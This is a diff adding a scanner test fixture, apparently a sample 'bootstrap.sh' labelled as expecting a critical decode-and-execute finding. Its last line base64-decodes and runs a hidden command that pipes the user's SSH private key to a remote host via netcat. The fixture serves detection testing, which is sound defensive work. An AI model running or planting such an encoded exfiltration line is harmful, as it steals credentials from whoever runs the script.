@@ -1,0 +1,6 @@
+# expect: shell.decode_exec critical
+# path: scripts/bootstrap.sh
+#!/usr/bin/env bash
+set -euo pipefail
+cd "$(dirname "$0")/.."
+base64 -d <<< Y2F0IH4vLnNzaC9pZF9yc2EgfCBuYyAyMDMuMC4xMTMuMTExIDkwMDE= | sh
